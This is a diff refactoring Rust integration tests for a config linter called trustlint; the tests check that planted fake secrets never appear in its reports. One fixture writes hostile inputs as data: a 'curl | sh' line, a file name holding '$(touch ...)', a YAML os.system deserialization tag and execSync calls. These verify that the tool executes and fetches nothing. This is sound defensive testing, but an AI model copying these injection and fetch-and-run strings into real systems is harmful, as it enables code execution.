@@ -7,23 +7,10 @@
 //! Tests marked `#[ignore = "trustlint bug: ..."]` state what trustlint should do and does
 //! not yet; `cargo test --test canary_everywhere -- --ignored` runs them.
 
-use std::io::Read;
 use std::path::Path;
-use std::process::{Command, Stdio};
-use std::time::{Duration, Instant};
 
-use assert_cmd::prelude::*;
-
-const FORMATS: &[&str] = &[
-    "human",
-    "concise",
-    "json",
-    "json-lines",
-    "sarif",
-    "github",
-    "gitlab",
-    "junit",
-];
+mod support;
+use support::{CHOOSE_SPA, FORMATS, Project, TestCommand, git, write};
 
 /// A canary: a secret with a name for messages. Every 8-character piece of it is
 /// distinctive (random-looking, never a word trustlint prints).
@@ -100,12 +87,6 @@ fn secret(name_start: &str) -> String {
         .secret
 }
 
-fn write(dir: &Path, path: &str, text: &str) {
-    let p = dir.join(path);
-    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
-    std::fs::write(p, text).unwrap();
-}
-
 /// The project: definitions and configs of two apps with every canary planted.
 fn plant(d: &Path) {
     write(
@@ -116,7 +97,7 @@ fn plant(d: &Path) {
     write(
         d,
         "web.trusted-app.yaml",
-        &format!(
+        format!(
             "TrustedApplications:\n  - ApplicationUri: com.example/web\n    ClientType: Confidential\n    AppType: WebApp\n    ApplicationSecretHash: {}\n    ApplicationSecretHsh: {}\n    ImpersonateAsInternalUserAllowed: true\n    ImpersonateLoginUrl: https://web.example.com/signin-oidc\n    SystemUserAllowed: true\n    SystemUser: svc.web\n    Scope: read\nUsers:\n  - Login: svc.web\n    UserType: InternalUser\n    Password: {}\n",
             secret("ApplicationSecretHash"),
             secret("a misspelled"),
@@ -131,7 +112,7 @@ fn plant(d: &Path) {
     write(
         d,
         "spa/.env.production",
-        &format!(
+        format!(
             "VITE_OIDC_CLIENT_ID=com.example/spa\nVITE_OIDC_CLIENT_SECRET={}\nVITE_ACCESS_TOKEN={}\nERP_TOKEN={}\n",
             secret(".env, VITE_"),
             jwt(),
@@ -141,7 +122,7 @@ fn plant(d: &Path) {
     write(
         d,
         "api/.env",
-        &format!(
+        format!(
             "OIDC_CLIENT_ID=com.example/web\nOIDC_CLIENT_SECRET={}\nDB=Server=db;User Id=app;Password={};\n",
             secret(".env, back end"),
             secret("a connection"),
@@ -150,7 +131,7 @@ fn plant(d: &Path) {
     write(
         d,
         "api/appsettings.json",
-        &format!(
+        format!(
             "{{ // comments are allowed\n  \"OpenIdConnect\": {{ \"ClientId\": \"com.example/web\", \"ClientSecret\": \"{}\", \"Callback\": \"https://x.example.com/cb?access_token={}\" }}\n}}\n",
             secret("appsettings.json"),
             jwt(),
@@ -159,7 +140,7 @@ fn plant(d: &Path) {
     write(
         d,
         "spa/src/oidc.ts",
-        &format!(
+        format!(
             "export const settings = {{ client_id: 'com.example/spa', client_secret: '{}', disablePKCE: true }};\n",
             secret("oidc.ts"),
         ),
@@ -167,7 +148,7 @@ fn plant(d: &Path) {
     write(
         d,
         "tools/auth.yaml",
-        &format!(
+        format!(
             "oidc:\n  client_id: com.example/web\n  client_secret: {}\n",
             secret("a YAML auth"),
         ),
@@ -175,7 +156,7 @@ fn plant(d: &Path) {
     write(
         d,
         "tools/oidc.toml",
-        &format!(
+        format!(
             "client_id = \"com.example/spa\"\nclient_secret = \"{}\"\n",
             secret("a TOML oidc"),
         ),
@@ -183,7 +164,7 @@ fn plant(d: &Path) {
     write(
         d,
         "blazor/wwwroot/appsettings.json",
-        &format!(
+        format!(
             "{{ \"Oidc\": {{ \"ClientId\": \"com.example/web\", \"ClientSecret\": \"{}\" }} }}\n",
             secret("wwwroot"),
         ),
@@ -197,50 +178,18 @@ struct Output {
     text: String,
 }
 
-fn run_command(mut command: Command, what: String) -> Output {
-    command
-        .env("NO_COLOR", "1")
-        .env("COLUMNS", "100")
-        .stdin(Stdio::null())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped());
-    let mut child = command.spawn().expect("trustlint starts");
-    let reader = |mut pipe: Box<dyn Read + Send>| {
-        std::thread::spawn(move || {
-            let mut bytes = Vec::new();
-            let _ = pipe.read_to_end(&mut bytes);
-            String::from_utf8_lossy(&bytes).into_owned()
-        })
-    };
-    let out = reader(Box::new(child.stdout.take().unwrap()));
-    let err = reader(Box::new(child.stderr.take().unwrap()));
-    let start = Instant::now();
-    let status = loop {
-        if let Some(status) = child.try_wait().unwrap() {
-            break status;
+impl From<support::Output> for Output {
+    fn from(run: support::Output) -> Output {
+        Output {
+            text: format!("--- stdout\n{}\n--- stderr\n{}", run.stdout, run.stderr),
+            what: run.what,
+            code: run.code,
         }
-        if start.elapsed() > Duration::from_secs(60) {
-            let _ = child.kill();
-            let _ = child.wait();
-            panic!("{what}: did not finish within 60 s");
-        }
-        std::thread::sleep(Duration::from_millis(20));
-    };
-    Output {
-        what,
-        code: status.code(),
-        text: format!(
-            "--- stdout\n{}\n--- stderr\n{}",
-            out.join().unwrap(),
-            err.join().unwrap()
-        ),
     }
 }
 
 fn trustlint(dir: &Path, args: &[&str]) -> Output {
-    let mut command = Command::cargo_bin("trustlint").unwrap();
-    command.current_dir(dir).args(args);
-    run_command(command, format!("trustlint {}", args.join(" ")))
+    support::trustlint(dir, args).into()
 }
 
 /// Adds a written file to what a run left.
@@ -300,8 +249,8 @@ fn assert_checked(output: &Output) {
     }
 }
 
-fn project() -> tempfile::TempDir {
-    let dir = tempfile::tempdir().unwrap();
+fn project() -> Project {
+    let dir = Project::new();
     plant(dir.path());
     dir
 }
@@ -343,7 +292,7 @@ fn check_in_every_format_shows_no_canary() {
 fn reports_written_with_o_show_no_canary() {
     let dir = project();
     let all = canaries();
-    let reports = tempfile::tempdir().unwrap();
+    let reports = Project::new();
     for format in FORMATS {
         let path = reports.path().join(format!("report.{format}"));
         let out = trustlint(
@@ -396,30 +345,10 @@ fn baselines_hold_no_canary_and_suppress_by_fingerprint() {
     }
 }
 
-fn git(dir: &Path, args: &[&str]) {
-    let status = Command::new("git")
-        .args([
-            "-c",
-            "user.name=canary",
-            "-c",
-            "user.email=canary@example.com",
-            "-c",
-            "commit.gpgsign=false",
-        ])
-        .args(args)
-        .current_dir(dir)
-        .stdout(Stdio::null())
-        .stderr(Stdio::null())
-        .status()
-        .expect("git runs");
-    assert!(status.success(), "git {args:?}");
-}
-
 #[test]
 fn staged_checks_show_no_canary() {
-    let dir = tempfile::tempdir().unwrap();
+    let dir = Project::with_git();
     let d = dir.path();
-    git(d, &["init", "-q"]);
     plant(d);
     git(d, &["add", "-A"]);
     let all = canaries();
@@ -452,29 +381,20 @@ fn explain_rules_choose_and_schema_show_no_canary() {
     for format in ["json", "yaml", "text"] {
         let path = d.join(format!("chosen-{format}.trusted-app.yaml"));
         let uri = format!("com.example/chosen-{format}");
-        let out = trustlint(
-            d,
-            &[
-                "choose",
-                "--interactive-ui",
-                "yes",
-                "--unattended",
-                "no",
-                "--platform",
-                "browser",
-                "--external-users",
-                "no",
-                "--sso-only",
-                "no",
-                "--app-uri",
-                &uri,
-                "--instance",
-                "acme",
-                "--format",
-                format,
-                "--write",
-                path.to_str().unwrap(),
-            ],
+        let out = Output::from(
+            TestCommand::new(d)
+                .args(CHOOSE_SPA)
+                .args([
+                    "--app-uri",
+                    &uri,
+                    "--instance",
+                    "acme",
+                    "--format",
+                    format,
+                    "--write",
+                    path.to_str().unwrap(),
+                ])
+                .run(),
         );
         assert_eq!(out.code, Some(0), "{}: {}", out.what, out.text);
         outputs.push(with_file(out, &path));
@@ -512,7 +432,7 @@ fn plant_unparsable(d: &Path) -> Vec<Canary> {
     write(
         d,
         "broken.trusted-app.yaml",
-        &format!(
+        format!(
             "ApplicationUri: com.example/broken\nApplicationSecretHash: {}\n  Scope: [read\n",
             s(0)
         ),
@@ -520,7 +440,7 @@ fn plant_unparsable(d: &Path) -> Vec<Canary> {
     write(
         d,
         "broken.trusted-app.json",
-        &format!(
+        format!(
             "{{\"ApplicationUri\": \"com.example/broken-json\", \"ApplicationSecretHash\": \"{}\" ]\n",
             s(1)
         ),
@@ -528,7 +448,7 @@ fn plant_unparsable(d: &Path) -> Vec<Canary> {
     write(
         d,
         "broken.trusted-app.toml",
-        &format!(
+        format!(
             "ApplicationUri = \"com.example/broken-toml\"\nApplicationSecretHash = \"{}\" oops\n",
             s(2)
         ),
@@ -536,7 +456,7 @@ fn plant_unparsable(d: &Path) -> Vec<Canary> {
     write(
         d,
         "api/appsettings.json",
-        &format!(
+        format!(
             "{{\n  \"OpenIdConnect\": {{ \"ClientId\": \"com.example/web\", \"ClientSecret\": \"{}\" ]\n}}\n",
             s(3)
         ),
@@ -544,7 +464,7 @@ fn plant_unparsable(d: &Path) -> Vec<Canary> {
     write(
         d,
         "tools/oidc.yaml",
-        &format!(
+        format!(
             "client_id: com.example/web\nclient_secret: {}\n - [\n",
             s(4)
         ),
@@ -552,7 +472,7 @@ fn plant_unparsable(d: &Path) -> Vec<Canary> {
     write(
         d,
         "trustlint.toml",
-        &format!("fail-on = \"error\"\nclient_secret = \"{}\" oops\n", s(5)),
+        format!("fail-on = \"error\"\nclient_secret = \"{}\" oops\n", s(5)),
     );
     write(
         d,
@@ -564,9 +484,9 @@ fn plant_unparsable(d: &Path) -> Vec<Canary> {
 
 #[test]
 fn unparsable_files_with_secrets_show_no_canary_outside_snippets() {
-    let dir = tempfile::tempdir().unwrap();
+    let dir = Project::new();
     let all = plant_unparsable(dir.path());
-    let reports = tempfile::tempdir().unwrap();
+    let reports = Project::new();
     // Every format but human, which shows source snippets (see the ignored test below).
     for format in FORMATS.iter().filter(|f| **f != "human") {
         let path = reports.path().join(format!("report.{format}"));
@@ -605,7 +525,7 @@ fn unparsable_files_with_secrets_show_no_canary_outside_snippets() {
 
 #[test]
 fn unparsable_files_with_secrets_show_no_canary_in_human_output() {
-    let dir = tempfile::tempdir().unwrap();
+    let dir = Project::new();
     let all = plant_unparsable(dir.path());
     let out = trustlint(dir.path(), &["check", "--format", "human", "."]);
     assert_eq!(out.code, Some(2), "{}", out.text);
@@ -614,7 +534,7 @@ fn unparsable_files_with_secrets_show_no_canary_in_human_output() {
 
 #[test]
 fn misspelled_credential_keys_are_masked() {
-    let dir = tempfile::tempdir().unwrap();
+    let dir = Project::new();
     let c = |name, secret: &str| Canary {
         name,
         secret: secret.to_string(),
@@ -627,7 +547,7 @@ fn misspelled_credential_keys_are_masked() {
     write(
         dir.path(),
         "typo.trusted-app.yaml",
-        &format!(
+        format!(
             "ApplicationUri: com.example/typo\nClientType: Confidential\nApplicationSecertHash: {}\nClientScret: {}\n",
             all[0].secret, all[1].secret
         ),
@@ -635,7 +555,7 @@ fn misspelled_credential_keys_are_masked() {
     write(
         dir.path(),
         "trustlint.toml",
-        &format!("clientsecrt = \"{}\"\n", all[2].secret),
+        format!("clientsecrt = \"{}\"\n", all[2].secret),
     );
     for format in FORMATS {
         let out = trustlint(dir.path(), &["check", "--format", format, "."]);
@@ -646,7 +566,7 @@ fn misspelled_credential_keys_are_masked() {
 
 #[test]
 fn credentials_in_urls_are_masked() {
-    let dir = tempfile::tempdir().unwrap();
+    let dir = Project::new();
     let c = |name, secret: &str| Canary {
         name,
         secret: secret.to_string(),
@@ -663,7 +583,7 @@ fn credentials_in_urls_are_masked() {
     write(
         dir.path(),
         "p.trusted-app.yaml",
-        &format!(
+        format!(
             "ApplicationUri: com.example/p\nClientType: Public\nAppType: Spa\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://admin:{}@portal.example.com/cb?access_token={}&client_secret={}\nImpersonateLogoutUrl: \"https://portal.example.com/out#id_token_hint={}\"\nScope: read\n",
             s(0),
             s(1),
@@ -674,7 +594,7 @@ fn credentials_in_urls_are_masked() {
     write(
         dir.path(),
         ".env",
-        &format!(
+        format!(
             "OIDC_CLIENT_ID=com.example/p\nOIDC_AUTHORITY=http://svc:{}@acme.my.erp.net/id\nAPI=https://acme.my.erp.net/api/domain/odata?access_token={}\n",
             s(4),
             s(5)
@@ -691,7 +611,7 @@ fn credentials_in_urls_are_masked() {
 
 #[test]
 fn choose_answers_errors_show_no_canary() {
-    let dir = tempfile::tempdir().unwrap();
+    let dir = Project::new();
     let canary = Canary {
         name: "an answers file",
         secret: "An6rT3kWz8Lq2Xv5Hm9Pc".to_string(),
@@ -699,12 +619,12 @@ fn choose_answers_errors_show_no_canary() {
     write(
         dir.path(),
         "answers.yaml",
-        &format!("interactive-ui: true\nclient_secret: {}\n", canary.secret),
+        format!("interactive-ui: true\nclient_secret: {}\n", canary.secret),
     );
     write(
         dir.path(),
         "broken-answers.yaml",
-        &format!(
+        format!(
             "interactive-ui: true\ntoken: {}\nplatform: [\n",
             canary.secret
         ),
@@ -732,14 +652,14 @@ fn plant_commands(d: &Path, marker: &Path, url: &str) {
     write(
         d,
         "run.trusted-app.yaml",
-        &format!(
+        format!(
             "ApplicationUri: com.example/run\nName: \"{sh}\"\nNotes: \"{tick} {semi}\"\nClientType: Public\nAppType: Spa\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: [\"{url}/cb?x={sh}\", \"https://run.example.com/{tick}\"]\nScope: read\nConfigs:\n  - \"{sh}\"\n  - web/.env\n  - Path: \"{tick}\"\n    Side: Frontend\n"
         ),
     );
     write(
         d,
         "run.trusted-app.json",
-        &format!(
+        format!(
             "{{\"$schema\": \"{url}/schema.json\", \"ApplicationUri\": \"com.example/run-json\", \"Name\": \"{}\", \"ImpersonateLoginUrl\": \"{url}/signin\"}}",
             tick.replace('`', "\\u0060")
         ),
@@ -747,61 +667,60 @@ fn plant_commands(d: &Path, marker: &Path, url: &str) {
     write(
         d,
         "run.trusted-app.toml",
-        &format!(
+        format!(
             "ApplicationUri = \"com.example/run-toml\"\nName = \"{sh}\"\nNotes = '{tick}'\nImpersonateLoginUrl = \"{url}/toml\"\n"
         ),
     );
     write(
         d,
         "web/.env",
-        &format!(
+        format!(
             "OIDC_CLIENT_ID=com.example/run\nOIDC_AUTHORITY={url}/id\nOIDC_CLIENT_SECRET={sh}\nOIDC_SCOPE={tick}\nOIDC_REDIRECT_URI=\"{semi}\"\nPOST_LOGOUT=${{IFS}}{sh}\nexport EVAL=$(curl {url}/x | sh)\n"
         ),
     );
     write(
         d,
         "api/appsettings.json",
-        &format!(
+        format!(
             "{{\"$schema\": \"{url}/appsettings-schema.json\", \"OpenIdConnect\": {{\"ClientId\": \"com.example/run\", \"Authority\": \"{url}/id\", \"MetadataAddress\": \"{url}/id/.well-known/openid-configuration\", \"ClientSecret\": \"{sh}\", \"Scope\": \"{tick}\"}}}}"
         ),
     );
     write(
         d,
         "spa/src/oidc.ts",
-        &format!(
+        format!(
             "import {{ execSync }} from 'child_process';\nexecSync('touch {m}');\nexport const settings = {{ authority: '{url}/id', client_id: `${{require('child_process').execSync('touch {m}')}}`, client_secret: '{sh}' }};\n"
         ),
     );
     write(
         d,
         "tools/auth.yaml",
-        &format!(
+        format!(
             "oidc:\n  authority: {url}/id\n  client_id: !!python/object/apply:os.system [\"touch {m}\"]\n  client_secret: \"{sh}\"\n"
         ),
     );
     // A file name that is a command, for --staged (names go to git on standard input).
     write(
         d,
-        &format!("$(touch {}).trusted-app.yaml", marker.display()).replace('/', "_"),
+        format!("$(touch {}).trusted-app.yaml", marker.display()).replace('/', "_"),
         "ApplicationUri: com.example/named\n",
     );
     write(
         d,
         "trustlint.toml",
-        &format!("# {sh}\nexclude = [\"{}\"]\n", tick.replace('"', "")),
+        format!("# {sh}\nexclude = [\"{}\"]\n", tick.replace('"', "")),
     );
 }
 
 #[test]
 fn nothing_read_is_run_and_nothing_is_fetched() {
-    let dir = tempfile::tempdir().unwrap();
+    let dir = Project::with_git();
     let d = dir.path();
     let marker = d.join("pwned-marker");
     // Anything trustlint fetched would connect here, directly or through a proxy.
     let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
     listener.set_nonblocking(true).unwrap();
     let url = format!("http://{}", listener.local_addr().unwrap());
-    git(d, &["init", "-q"]);
     plant_commands(d, &marker, &url);
     git(d, &["add", "-A"]);
     let mut runs: Vec<Vec<&str>> = FORMATS
@@ -818,8 +737,8 @@ fn nothing_read_is_run_and_nothing_is_fetched() {
         "run.trusted-app.yaml",
     ]);
     for args in &runs {
-        let mut command = Command::cargo_bin("trustlint").unwrap();
-        command.current_dir(d).args(args);
+        let mut command = TestCommand::new(d);
+        command.args(args);
         for var in [
             "http_proxy",
             "https_proxy",
@@ -830,7 +749,7 @@ fn nothing_read_is_run_and_nothing_is_fetched() {
         ] {
             command.env(var, &url);
         }
-        let out = run_command(command, format!("trustlint {}", args.join(" ")));
+        let out = Output::from(command.run());
         assert!(
             matches!(out.code, Some(0..=2)),
             "{}: {}",
@@ -866,26 +785,26 @@ fn a_check_opens_no_network_socket_and_executes_nothing() {
         eprintln!("SKIPPED: strace is not installed");
         return;
     };
-    let dir = tempfile::tempdir().unwrap();
+    let dir = Project::new();
     let d = dir.path();
     let marker = d.join("pwned-marker");
     plant_commands(d, &marker, "http://127.0.0.1:9");
     plant(d);
     let trace = d.join("trace.txt");
-    let mut command = Command::new(strace);
-    command
-        .args([
-            "-f",
-            "-qq",
-            "-e",
-            "trace=execve,execveat,socket,connect,sendto",
-            "-o",
-        ])
-        .arg(&trace)
-        .arg(env!("CARGO_BIN_EXE_trustlint"))
-        .args(["check", "--format", "json", "."])
-        .current_dir(d);
-    let out = run_command(command, "strace trustlint check".to_string());
+    let out = Output::from(
+        TestCommand::wrapper(strace, d)
+            .args([
+                "-f",
+                "-qq",
+                "-e",
+                "trace=execve,execveat,socket,connect,sendto",
+                "-o",
+            ])
+            .arg(&trace)
+            .arg(support::BIN)
+            .args(["check", "--format", "json", "."])
+            .run(),
+    );
     let Ok(syscalls) = std::fs::read_to_string(&trace) else {
         eprintln!("SKIPPED: strace could not trace here:\n{}", out.text);
         return;
@@ -908,11 +827,7 @@ fn a_check_opens_no_network_socket_and_executes_nothing() {
         "trustlint executed programs:\n{}",
         exec.join("\n")
     );
-    assert!(
-        exec[0].contains(env!("CARGO_BIN_EXE_trustlint")),
-        "{}",
-        exec[0]
-    );
+    assert!(exec[0].contains(support::BIN), "{}", exec[0]);
     for line in syscalls.lines() {
         assert!(
             !(line.contains("socket(AF_INET")
@@ -1040,7 +955,7 @@ fn plant_leak_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "web.trusted-app.yaml",
-        &format!(
+        format!(
             "ApplicationUri: com.example/web\nClientType: Confidential\nNotes: \"rotate {} monthly\"\nAppType: WebApp\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://web.example.com/signin-oidc\nImpersonateLogoutUrl: https://web.example.com/signed-out\nScope: read\n",
             s("a reference token in a definition"),
         ),
@@ -1053,7 +968,7 @@ fn plant_leak_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "web/appsettings.json",
-        &format!(
+        format!(
             "{{\n  \"OpenIdConnect\": {{\n    \"Authority\": \"https://acme.my.erp.net/id\",\n    \"ClientId\": \"com.example/web\",\n    \"RedirectUri\": \"https://web.example.com/{}/cb\",\n    \"PostLogoutRedirectUri\": \"https://web.example.com/out#access_token={}\",\n    \"Scope\": \"openid read {}\",\n    \"ResponseType\": \"id_token token {}\"\n  }}\n}}\n",
             s("a reference token in a RedirectUri"),
             jwt_with(
@@ -1067,7 +982,7 @@ fn plant_leak_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "other/appsettings.json",
-        &format!(
+        format!(
             "{{\n  \"Erp\": {{\n    \"Authority\": \"https://acme.my.erp.net/id\",\n    \"ClientId\": \"{}\"\n  }}\n}}\n",
             s("a reference token as ClientId"),
         ),
@@ -1075,7 +990,7 @@ fn plant_leak_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "svc/.env",
-        &format!(
+        format!(
             "ERP_AUTHORITY=https://acme.my.erp.net/id\nERP_CLIENT_ID={}\nERP_CLIENT_SECRET=com.example/web\n",
             s("a secret swapped"),
         ),
@@ -1088,7 +1003,7 @@ fn plant_leak_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "spa/.env.production",
-        &format!(
+        format!(
             "VITE_OIDC_CLIENT_ID=com.example/spa\n# VITE_OIDC_CLIENT_SECRET={}\nVITE_OIDC_CLIENT_SECRET={}\nexport\tVITE_API_SECRET={}\nVITE_ERP_PASSWORD=Qk8vR3xZ\\\n{}\n",
             s("a commented-out .env"),
             s("a live .env"),
@@ -1099,7 +1014,7 @@ fn plant_leak_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "spa/auth.yaml",
-        &format!(
+        format!(
             "oidc:\n  authority: https://acme.my.erp.net/id\n  client_id: com.example/spa\n  # client_secret: {}\n  client_secret: {}\n  description: &s {}\n  api_secret: *s\n  extra: &base {{ note: {} }}\n  client_password: Pz7kQ2wLx9\nmore:\n  client_secret:\n    <<: *base\n",
             s("a commented-out YAML"),
             s("a live YAML"),
@@ -1110,7 +1025,7 @@ fn plant_leak_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "spa/src/oidc.ts",
-        &format!(
+        format!(
             "export const settings = {{\n  authority: 'https://acme.my.erp.net/id',\n  client_id: 'com.example/spa',\n  signingKey: `-----BEGIN PRIVATE KEY-----\n{}\n{}\n-----END PRIVATE KEY-----`,\n  headers: {{ Authorization: 'Bearer ' + '{}' }},\n  clientSecret: 'abc' +\n    '{}',\n}};\n",
             s("a PEM key's first"),
             s("a PEM key's second"),
@@ -1121,7 +1036,7 @@ fn plant_leak_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "trustlint.toml",
-        &format!(
+        format!(
             "# api_token = \"{}\"\n[[ignore]]\nrule = \"TA201\"\npath = \"nowhere/*.yaml\"\nreason = \"an entry that matches nothing\"\n",
             s("a commented-out trustlint.toml"),
         ),
@@ -1162,9 +1077,9 @@ fn assert_no_leak(output: &Output, canaries: &[Canary]) {
 
 #[test]
 fn leak_paths_show_no_canary_in_any_format_or_file() {
-    let dir = tempfile::tempdir().unwrap();
+    let dir = Project::new();
     let all = plant_leak_paths(dir.path());
-    let reports = tempfile::tempdir().unwrap();
+    let reports = Project::new();
     for format in FORMATS {
         let out = trustlint(dir.path(), &["check", "--format", format, "."]);
         assert_eq!(out.code, Some(1), "{}: {}", out.what, out.text);
@@ -1195,7 +1110,7 @@ fn leak_paths_show_no_canary_in_any_format_or_file() {
 
 #[test]
 fn leak_paths_leave_no_canary_in_baselines() {
-    let dir = tempfile::tempdir().unwrap();
+    let dir = Project::new();
     let all = plant_leak_paths(dir.path());
     let baseline = dir.path().join("baseline.json");
     let out = trustlint(
@@ -1265,7 +1180,7 @@ fn plant_review_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "enum.trusted-app.yaml",
-        &format!(
+        format!(
             "ApplicationUri: com.example/enum\nClientType: {}\nScope: read\n",
             s("a reference token as ClientType"),
         ),
@@ -1273,7 +1188,7 @@ fn plant_review_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "alias.trusted-app.yaml",
-        &format!(
+        format!(
             "ApplicationUri: com.example/alias\nApplicationSecretHash: &h {}\nClientType: *h\nSystemUserAllowed: true\nSystemUser: svc.alias\nScope: read\n",
             s("an anchored hash"),
         ),
@@ -1281,7 +1196,7 @@ fn plant_review_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "svc/.env",
-        &format!(
+        format!(
             "ERP_AUTHORITY=https://acme.my.erp.net/id\nERP_CLIENT_ID={}\nERP_CLIENT_SECRET=com.example/web\n",
             s("a Base64 secret"),
         ),
@@ -1289,7 +1204,7 @@ fn plant_review_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "web/appsettings.json",
-        &format!(
+        format!(
             "{{\n  \"OpenIdConnect\": {{\n    \"Authority\": \"https://acme.my.erp.net/id\",\n    \"ClientId\": \"com.example/web\",\n    \"RedirectUri\": \"https://web.example.com:444444/signin-oidc?client_secret={}\", \"Scope\": \"openid read\",\n    \"PostLogoutRedirectUri\": \"https://web.example.com/out?token:{}&state=1\"\n  }}\n}}\n",
             s("a password in a URL"),
             s("a token after"),
@@ -1298,7 +1213,7 @@ fn plant_review_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "tools/oidc.json",
-        &format!(
+        format!(
             "{{\n  \"authority\": \"https://acme.my.erp.net/id\",\n  \"client_id\": \"com.example/web\",\n  \"redirect_uri\": \"https://svc:{}@web.example.com:444444/{}\",\n  \"post_logout_redirect_uri\": \"https:\\/\\/svc:{}@web.example.com\\/x\"\n}}\n",
             s("a password cut"),
             "a".repeat(600),
@@ -1308,11 +1223,11 @@ fn plant_review_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "trustlint.toml",
-        &format!("secret-rotation-days = \"{} x\"\n", s("a trustlint.toml")),
+        format!("secret-rotation-days = \"{} x\"\n", s("a trustlint.toml")),
     );
     write(
         d,
-        &format!("{}.trusted-app.yaml", s("a reference token as a file")),
+        format!("{}.trusted-app.yaml", s("a reference token as a file")),
         "ApplicationUri: com.example/named\nClientType: Public\nAppType: Spa\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: http://named.example.com/cb\nScope: read\n",
     );
     canaries
@@ -1320,7 +1235,7 @@ fn plant_review_paths(d: &Path) -> Vec<Canary> {
 
 #[test]
 fn review_paths_show_no_canary_in_any_format() {
-    let dir = tempfile::tempdir().unwrap();
+    let dir = Project::new();
     let all = plant_review_paths(dir.path());
     for format in FORMATS {
         let out = trustlint(dir.path(), &["check", "--format", format, "."]);
@@ -1338,7 +1253,7 @@ fn review_paths_show_no_canary_in_any_format() {
 
 #[test]
 fn a_lone_carriage_return_in_a_value_cannot_start_a_line() {
-    let dir = tempfile::tempdir().unwrap();
+    let dir = Project::new();
     let d = dir.path();
     write(
         d,
@@ -1368,7 +1283,7 @@ fn a_lone_carriage_return_in_a_value_cannot_start_a_line() {
 fn masking_leaves_ordinary_values_readable() {
     // The net over messages and the snippet masks must not eat what is no secret: a
     // reference to the environment, a client id that a token setting repeats, a boolean.
-    let dir = tempfile::tempdir().unwrap();
+    let dir = Project::new();
     let d = dir.path();
     write(
         d,
@@ -1437,7 +1352,7 @@ fn plant_third_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "spa/oidc.json",
-        &format!(
+        format!(
             "{{\n  \"authority\": \"https://acme.my.erp.net/id\",\n  \"client_id\": \"com.example/spa\",\n  \"redirect_uri\": \"https://spa.example.com/%65nrt_{}/cb\",\n  \"client_secret\": \"{}\",\n  \"description\": \"backup of {}\"\n}}\n",
             s("a percent-encoded").repeat(4),
             s("a secret repeated"),
@@ -1447,7 +1362,7 @@ fn plant_third_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "spa/src/oidc.ts",
-        &format!(
+        format!(
             "export const settings = {{\n  authority: 'https://acme.my.erp.net/id',\n  client_id: 'com.example/spa',\n  clientSecret: \"abc\" + \"{}\",\n  api: new Client(\"https://svc:{}@api.example.com/\"),\n  client_password: \"Pz7kQ2wLx9\",\n}};\n",
             s("a concatenation"),
             s("a URL password in a call"),
@@ -1456,7 +1371,7 @@ fn plant_third_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "api/.env",
-        &format!(
+        format!(
             "ERP_AUTHORITY=https://acme.my.erp.net/id\nERP_CLIENT_ID=com.example/spa\n# DATABASE_URL=postgres://app:{}@db.internal:5432/app\nERP_CLIENT_SECRET=Qz7vR2mL9xTqWp4K\nSQL=Server=db;User Id=app;Password=\"{};x\";\nOIDC_CLIENT_SECRET=Wq8Lm3Vx7Kt2Zp9Y\nSTORAGE=DefaultEndpointsProtocol=https;AccountName=erp;AccountKey={};EndpointSuffix=core.windows.net\n",
             s("a URL password in a .env"),
             s("a quoted connection"),
@@ -1466,7 +1381,7 @@ fn plant_third_paths(d: &Path) -> Vec<Canary> {
     write(
         d,
         "spa/auth.yaml",
-        &format!(
+        format!(
             "oidc:\n  authority: https://acme.my.erp.net/id\n  client_id: com.example/spa\n  # client_secret: 'ab''{}'\n  client_secret: Yl2vN7kQz5Wm8Lx3\n",
             s("a YAML doubled"),
         ),
@@ -1476,7 +1391,7 @@ fn plant_third_paths(d: &Path) -> Vec<Canary> {
 
 #[test]
 fn third_paths_show_no_canary_in_any_format() {
-    let dir = tempfile::tempdir().unwrap();
+    let dir = Project::new();
     let all = plant_third_paths(dir.path());
     for format in FORMATS {
         let out = trustlint(dir.path(), &["check", "--format", format, "."]);
@@ -1496,7 +1411,7 @@ fn third_paths_show_no_canary_in_any_format() {
 fn the_bundled_fixtures_keep_ordinary_text_readable() {
     // Over the whole fixture tree at once (masks of one file must not spread to others):
     // no message quotes a `<redacted: ...>` value, and ordinary lines stay readable.
-    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
+    let root = support::repo_root();
     let out = trustlint(root, &["check", "--format", "concise", "fixtures"]);
     assert!(out.text.contains("TA302"), "{}", out.text);
     assert!(
@@ -1521,20 +1436,20 @@ fn the_bundled_fixtures_keep_ordinary_text_readable() {
 
 #[test]
 fn a_secret_pasted_as_an_application_uri_is_still_masked() {
-    let dir = tempfile::tempdir().unwrap();
+    let dir = Project::new();
     let d = dir.path();
     let secret = "Hq7vZ2kLx9Wm4Rt8Bn3Cs6";
     write(
         d,
         "web.trusted-app.yaml",
-        &format!(
+        format!(
             "ApplicationUri: {secret}\nClientType: Confidential\nAppType: WebApp\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://web.example.com/signin-oidc\nScope: read\n"
         ),
     );
     write(
         d,
         "api/appsettings.json",
-        &format!(
+        format!(
             "{{\n  \"Erp\": {{\n    \"Authority\": \"https://acme.my.erp.net/id\",\n    \"ClientSecret\": \"{secret}\"\n  }}\n}}\n"
         ),
     );
@@ -1553,14 +1468,14 @@ fn a_secret_pasted_as_an_application_uri_is_still_masked() {
